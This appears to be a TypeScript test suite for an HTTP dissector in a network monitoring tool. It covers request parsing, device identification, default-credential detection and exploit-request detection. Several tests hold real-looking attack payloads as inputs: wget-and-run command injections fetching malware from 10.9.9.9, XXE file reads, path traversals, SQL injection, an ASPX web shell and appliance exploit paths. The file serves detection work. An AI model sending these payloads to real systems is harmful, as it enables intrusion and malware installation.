import assert from 'node:assert/strict'
import { test } from 'node:test'
import { mangled } from '#bytes/mangle'
import { ByteWriter } from '#bytes/write'
import type { Fact } from '#model/fact'
import { type Sent, saidInStream, sliceOf, tryOut } from '#model/test-slice'
import { protocol } from './index.ts'
import type { HttpState } from './state.ts'
import { encodeGet, encodeResponse } from './testing/encode.ts'

function ascii(text: string): Uint8Array {
  return new ByteWriter().ascii(text).take()
}

const stream = (...parts: readonly Sent[]) => saidInStream(protocol, parts)

function kinds(said: readonly Fact[], kind: Fact['kind']) {
  return said.filter((fact) => fact.kind === kind)
}

const page = '<html><head><title>SCALANCE X208</title></head></html>'
const ok = encodeResponse({
  status: 200,
  reason: 'OK',
  fields: { Server: 'GoAhead-Webs', 'Content-Type': 'text/html' },
  body: page,
})

test('a request and its answer are one operation on a path without its query', () => {
  const said = stream([encodeGet('10.0.0.1', '/portal?key=secret'), true], [ok, false])
  const operation = {
    kind: 'operation',
    verb: 'read',
    name: 'GET',
    code: 'GET',
    object: '/portal',
    error: undefined,
  }
  assert.deepEqual(kinds(said, 'operation'), [
    { ...operation, outcome: 'requested' },
    { ...operation, outcome: 'succeeded' },
  ])
})

test('a device names itself by its server field and by the title of its page', () => {
  const said = kinds(stream([encodeGet('plc', '/'), true], [ok, false]), 'identity')
  assert.deepEqual(
    said.map((fact) => (fact.kind === 'identity' ? [fact.attribute, fact.value, fact.field] : [])),
    [
      ['software', 'GoAhead-Webs', 'Server'],
      ['description', 'SCALANCE X208', 'HTML title'],
    ],
  )
})

test('a maker’s pair in clear text is told without its secret', () => {
  const request = encodeGet('plc', '/', { Authorization: 'Basic YWRtaW46YWRtaW4=' })
  const said = stream([request, true], [ok, false])
  assert.deepEqual(kinds(said, 'session'), [
    {
      kind: 'session',
      phase: 'open',
      secured: false,
      method: 'basic',
      user: 'admin',
      clearText: true,
      defaultCredentials: true,
    },
  ])
})

test('pipelined requests are answered in order', () => {
  const said = stream(
    [new Uint8Array([...encodeGet('a', '/1'), ...encodeGet('a', '/2')]), true],
    [new Uint8Array([...encodeResponse({ status: 404, reason: 'No', fields: {}, body: 'x' }), ...ok]), false],
  )
  const ends = kinds(said, 'operation').map((fact) =>
    fact.kind === 'operation' ? `${fact.object} ${fact.outcome}` : '',
  )
  assert.deepEqual(ends, ['/1 requested', '/2 requested', '/1 rejected', '/2 succeeded'])
})

test('chunks are counted without their framing, however they are cut', () => {
  const answer = ascii(
    'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n2;x=y\r\nef\r\n0\r\nT: 1\r\n\r\n',
  )
  const transfer = kinds(
    stream([encodeGet('a', '/f'), true], [new Uint8Array([...answer, ...ok]), false]),
    'transfer',
  )[0]
  assert.deepEqual(transfer, {
    kind: 'transfer',
    name: '/f',
    type: '',
    bytes: 6,
    sha256: 'bef57ec7f53a6d40beb640a780a639c83bc29ac8a9816f1fc6c5c6dcd93c4721',
    content: undefined,
    direction: 'to-client',
  })
})

test('after a tunnel is open the stream belongs to another protocol', () => {
  const state = protocol.newState!() as HttpState
  const established = ascii('HTTP/1.1 200 Established\r\n\r\n')
  const slices = [
    sliceOf(ascii('CONNECT a:443 HTTP/1.1\r\n\r\n')),
    sliceOf(established, { fromClient: false }),
    sliceOf(ascii('\x16\x03')),
  ]
  assert.equal(tryOut(protocol, slices, state).results.at(-1)?.kind, 'foreign')
})

test('only whole start lines are recognised', () => {
  const probe = (text: string) => protocol.probe!(sliceOf(ascii(text), { isStream: true }))
  assert.equal(probe('GET /index.html HTTP/1.1\r\n'), 'yes')
  assert.equal(probe('HTTP/1.0 401 '), 'yes')
  assert.equal(probe('GET /index'), 'more')
  assert.equal(probe('OPTIONS * RTSP/1.0\r\n'), 'no')
  assert.equal(probe('USER admin\r\n'), 'no')
})

test('damaged messages end', () => {
  const request = encodeGet('plc', '/', {
    Authorization: 'Basic YWRtaW46YWRtaW4=',
    'User-Agent': 'Mozilla/5.0 (Windows NT 10.0)',
  })
  const chunked = ascii('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n')
  for (const bytes of mangled(request)) stream([bytes, true])
  for (const whole of [ok, chunked])
    for (const bytes of mangled(whole)) stream([request, true], [bytes, false])
})

test('a request that comes letter by letter is waited for', () => {
  const bytes = encodeGet('plc', '/index.html')
  for (let length = 1; length < bytes.length; length++) {
    const found = protocol.dissect(sliceOf(bytes.slice(0, length), { isStream: true }), protocol.newState?.())
    assert.equal(found.kind, 'incomplete', `${length} bytes`)
  }
})

test('pages that refuse are no files, and their title is no device', () => {
  const refusal = encodeResponse({
    status: 404,
    reason: 'Not Found',
    fields: { 'Content-Type': 'text/html' },
    body: '<html><head><title>404 Not Found</title></head></html>',
  })
  const said = stream([encodeGet('10.0.0.1', '/nosuch'), true], [refusal, false])
  assert.deepEqual([kinds(said, 'transfer'), kinds(said, 'identity')], [[], []])
})

test('a part of a file has no digest, nor has one with a hole; behind the hole the next answer is read', () => {
  const answer = (status: number, body: string) =>
    encodeResponse({ status, reason: 'OK', fields: { 'Content-Type': 'a/b' }, body })
  const state = protocol.newState!()
  const say = (bytes: Uint8Array, fromClient: boolean) =>
    tryOut(protocol, [sliceOf(bytes, { fromClient, isStream: true })], state).said as readonly Fact[]
  const digestOf = (said: readonly Fact[]) =>
    said.flatMap((fact) => (fact.kind === 'transfer' ? [[fact.bytes, fact.sha256 !== undefined]] : []))
  say(encodeGet('10.0.0.1', '/fw.bin'), true)
  assert.deepEqual(digestOf(say(answer(200, 'whole'), false)), [[5, true]])
  say(encodeGet('10.0.0.1', '/fw.bin'), true)
  assert.deepEqual(digestOf(say(answer(206, 'part'), false)), [[4, false]])
  say(encodeGet('10.0.0.1', '/fw.bin'), true)
  const long = answer(200, 'x'.repeat(100))
  say(long.subarray(0, long.length - 90), false)
  assert.equal(protocol.lost!(state, false, 80), true)
  assert.deepEqual(digestOf(say(long.subarray(long.length - 10), false)), [[100, false]])
  say(encodeGet('10.0.0.1', '/fw.bin'), true)
  assert.deepEqual(digestOf(say(answer(200, 'whole'), false)), [[5, true]])
  assert.equal(protocol.lost!(state, false, 80), false)
})

test('a word in capitals is no request, unless a known method begins so', () => {
  const claim = (text: string) => protocol.probe!(sliceOf(ascii(text), { isStream: true }))
  assert.deepEqual(['VERY', 'G', 'UNSUB', 'PRI', 'BREW / HTTP/1.1\r\n'].map(claim), [
    'no',
    'more',
    'more',
    'more',
    'yes',
  ])
})

test('a title that comes in pieces is found', () => {
  const whole = encodeResponse({
    status: 200,
    reason: 'OK',
    fields: { 'Content-Type': 'text/html' },
    body: page,
  })
  const cut = whole.length - page.length + 20
  const said = stream([whole.slice(0, cut), false], [whole.slice(cut), false])
  assert.ok(said.some((fact) => fact.kind === 'identity' && fact.value === 'SCALANCE X208'))
})

test('credentials that are no base64 name nobody', () => {
  const wrong = encodeGet('plc', '/', { Authorization: `Basic ${'YWRtaW46YWRXY='.repeat(3)}AA=` })
  const odd = encodeGet('plc', '/', { Authorization: 'Basic YWRtaW46YWR1Y=' })
  assert.deepEqual(kinds(stream([wrong, true], [odd, true], [ok, false], [ok, false]), 'session'), [])
})

test('requests of worms and of known holes are told, and those of every day are not', () => {
  const attacks = (request: string) =>
    (stream([ascii(request), true]) as readonly Fact[]).flatMap((fact) =>
      fact.kind === 'anomaly' && fact.what === 'http-exploit'
        ? [fact.detail?.replace(/(?: in |:).*/, '')]
        : [],
    )
  const get = (target: string) => attacks(`GET ${target} HTTP/1.1\r\nHost: a\r\n\r\n`)
  const post = (target: string, body: string) =>
    attacks(`POST ${target} HTTP/1.1\r\nHost: a\r\nContent-Length: ${body.length}\r\n\r\n${body}`)
  const fetched = ['program fetched and run']
  assert.equal(post('/moveitisapi/moveitisapi.dll?action=m2', 'x').length, 1)
  assert.equal(post('/SDK/webLanguage', '<language>$(>webLib/c)</language>').length, 1)
  assert.deepEqual(post('/SDK/webLanguage', '<language>en</language>'), [], 'a language is chosen')
  assert.equal(post('/invoker/JMXInvokerServlet', 'x').length, 1)
  assert.deepEqual(get('/_layouts/15/start.aspx'), [])
  assert.deepEqual(get('/shell?cd+/tmp;wget+http://10.9.9.9/mozi.a;chmod+777+mozi.a'), fetched)
  assert.deepEqual(
    post('/picdesc.xml', '<NewInternalClient>`cd /tmp; wget http://10.9.9.9/m; sh m`</NewInternalClient>'),
    fetched,
  )
  assert.deepEqual(get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'), [
    'hole of a camera, router or VPN gateway',
  ])
  assert.deepEqual(get('/onvif-http/snapshot?auth=YWRtaW46MTEK'), ['hole of a camera, router or VPN gateway'])
  assert.deepEqual(post('/api', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>'), [
    'entity that reads files (XXE)',
  ])
  const withField = (field: string) => attacks(`GET /a HTTP/1.1\r\nHost: a\r\n${field}\r\n\r\n`)
  const dressed = ['request dressed up as the server’s own']
  assert.deepEqual(withField('Forwarded: for="[127.0.0.1]:8000";by="[127.0.0.1]:9000"'), dressed)
  assert.deepEqual(withField('X-PAN-AUTHCHECK: off'), dressed)
  assert.deepEqual(withField('Cookie: X-BEResource=localhost~1942062522;'), dressed)
  assert.deepEqual(withField('Cookie: SESSID=/../../../opt/x.txt'), dressed)
  assert.deepEqual(withField('Forwarded: for=192.0.2.43;proto=http;by=203.0.113.43'), [])
  assert.deepEqual(withField('Cookie: path=/a/b; theme=dark'), [])
  const smuggled = ['commands or pages smuggled into a form']
  assert.deepEqual(post('/script', 'script=println "id".execute().text'), smuggled)
  assert.deepEqual(post('/cgi', "customer=x' UNION SELECT 0,0"), smuggled)
  assert.deepEqual(post('/up', 'name="uploadFileName"\r\n\r\n../../../webapps/ROOT/a.jsp'), smuggled)
  assert.deepEqual(post('/sql', 'SELECT a FROM b UNION SELECT c FROM d'), [])
  assert.deepEqual(post('/a.aspx', 'p=Response.Write(eval(Request.Item["z0"],"unsafe"))'), ['web shell'])
  for (const page of [
    '/%2577ebui_wsma_http',
    '/+CSCOT+/oem-customization?app=AnyConnect&name=%2bCSCOE%2b/portal_inc.lua',
    '/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15',
  ])
    assert.deepEqual(get(page), ['hole of a camera, router or VPN gateway'], page)
  for (const page of [
    '/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false',
    '/ui/vropspluginui/rest/services/uploadova',
  ])
    assert.deepEqual(get(page), ['hole of a server for files, mail or applications'], page)
  assert.deepEqual(get('/+CSCOE+/logon.html'), [])
  assert.deepEqual(get('/server-info.action'), [])
  assert.deepEqual(post('/log', 'java.lang.RuntimeException: no route at com.example.Pump'), [])
  assert.deepEqual(get('/download/wget-1.21.tar.gz?from=curl'), [])
  assert.deepEqual(get('/onvif-http/snapshot?channel=1'), [])
})

test('a logon by form is a session whose secret nobody keeps, and other forms are none', () => {
  const post = (body: string) =>
    ascii(
      `POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
    )
  const sessions = (...bodies: string[]) =>
    kinds(stream(...bodies.flatMap((body) => [[post(body), true] as const, [ok, false] as const])), 'session')
  const logon = { kind: 'session', phase: 'open', method: 'form', secured: false, clearText: true } as const
  assert.deepEqual(sessions('username=op%31&password=geheim', 'username=op1&password=geheim2'), [
    { ...logon, user: 'op1', defaultCredentials: false },
    { ...logon, user: 'op1', defaultCredentials: false },
  ])
  assert.deepEqual(sessions('user=admin&pwd=admin'), [{ ...logon, user: 'admin', defaultCredentials: true }])
  for (const plain of ['setpoint=5&unit=bar', 'valve=3&bypass=1', 'password=&user=a'])
    assert.deepEqual(sessions(plain), [], plain)
  assert.equal(sessions('j_username=a&j_password=b').length, 1)
  assert.equal(sessions('login.pass=b').length, 1)
})
